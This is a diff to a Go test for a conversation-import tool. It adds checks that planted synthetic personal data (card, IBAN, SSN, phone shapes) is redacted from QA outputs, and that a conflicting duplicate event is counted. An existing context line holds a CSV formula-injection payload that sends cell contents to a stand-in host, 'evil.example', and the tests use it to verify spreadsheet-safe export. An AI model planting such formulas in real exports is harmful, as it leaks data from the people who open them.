@@ -42,6 +42,22 @@ const (
 // that every CSV must neutralise.
 const formulaConv = `=HYPERLINK("http://evil.example/?leak="&A1,"open")`
 
+// pii.jsonl: a WhatsApp conversation whose customer id is a phone number
+// and whose messages plant personal data in the shapes redaction used to
+// miss; its last line re-delivers an event_id with other content (another
+// conversation), which the build keeps once and lists as a conflict.
+const (
+	piiConv           = "pii-whatsapp"
+	conflictingCopies = 1
+)
+
+// piiPlanted are pii.jsonl's personal data, as they must never appear in
+// any QA output (transcripts, index, manifests).
+var piiPlanted = []string{
+	"447700900123", "4111\u00a01111", "４１１１", "415/555-0132", "06 12 34 56 78", "DE89-3704",
+	"jörg", "bücher", "123-45-6789", "QQ 12 34 56 C", "12345678Z", "1984-02-29", "203.0.113.7",
+}
+
 // outcome is where a file's lines must land: events in the lake, dead
 // letters by reason.
 type outcome struct {
@@ -274,8 +290,11 @@ func TestHostileImport(t *testing.T) {
 	if err := db.QueryRow("SELECT count(*) FROM conversations WHERE conversation_id = ?", hostileConv).Scan(&n); err != nil || n != 1 {
 		t.Errorf("the ../ conversation: %d rows, %v", n, err)
 	}
-	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events {
-		t.Errorf("warehouse events = %d (%v), want %d", n, err, total.Events)
+	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events-conflictingCopies {
+		t.Errorf("warehouse events = %d (%v), want %d (the lake's, less the dropped conflicting copy)", n, err, total.Events-conflictingCopies)
+	}
+	if err := db.QueryRow("SELECT duplicate_conflicts FROM warehouse_info").Scan(&n); err != nil || n != conflictingCopies {
+		t.Errorf("warehouse_info.duplicate_conflicts = %d (%v), want %d", n, err, conflictingCopies)
 	}
 	var sqlCSV bytes.Buffer // what parley sql --format csv prints
 	if err := metrics.Query(ctx, db, "SELECT conversation_id, last_queue, most_active_agent_id, customer_id, first_response_s FROM conversations ORDER BY 1", metrics.FormatCSV, &sqlCSV); err != nil {
@@ -296,16 +315,18 @@ func TestHostileImport(t *testing.T) {
 	if err != nil {
 		t.Fatalf("qa sample: %v", err)
 	}
-	sampled, formula := false, false
+	sampled, formula, pii := false, false, false
 	for _, p := range res.Sampled {
 		sampled = sampled || p.ConversationID == hostileConv
 		formula = formula || p.ConversationID == formulaConv
+		pii = pii || p.ConversationID == piiConv
 	}
-	if !sampled || !formula {
-		t.Errorf("the hostile conversations were not both sampled (%d picks): the escaping checks below would prove little", len(res.Sampled))
+	if !sampled || !formula || !pii {
+		t.Errorf("the hostile conversations were not all sampled (%d picks): the checks below would prove little", len(res.Sampled))
 	}
 	checkEscaped(t, filepath.Join(work, "out"))
 	checkSpreadsheetSafe(t, filepath.Join(work, "out"))
+	checkRedacted(t, filepath.Join(work, "out", "qa"))
 	containedIn(t, work, "in", "lake", "out")
 }
 
@@ -340,6 +361,43 @@ func checkEscaped(t *testing.T, dir string) {
 	}
 	if pages == 0 || escaped == 0 {
 		t.Errorf("%d HTML pages, %d showing the hostile HTML escaped; want both > 0", pages, escaped)
+	}
+}
+
+// checkRedacted fails if any file of the QA outputs under dir holds one of
+// pii.jsonl's planted personal data, and checks that the transcripts show
+// redaction placeholders (so the conversation did reach them).
+func checkRedacted(t *testing.T, dir string) {
+	t.Helper()
+	placeholders := 0
+	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		b, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		text := string(b)
+		for _, p := range piiPlanted {
+			raw, err := strconv.Unquote(`"` + p + `"`)
+			if err != nil {
+				return err
+			}
+			if strings.Contains(text, raw) {
+				t.Errorf("%s holds the planted %q", path, raw)
+			}
+		}
+		if strings.Contains(text, "[card]") && strings.Contains(text, "[iban]") && strings.Contains(text, "[ssn]") {
+			placeholders++
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if placeholders == 0 {
+		t.Errorf("no QA page under %s shows the pii conversation's placeholders: the check above proves little", dir)
 	}
 }
 
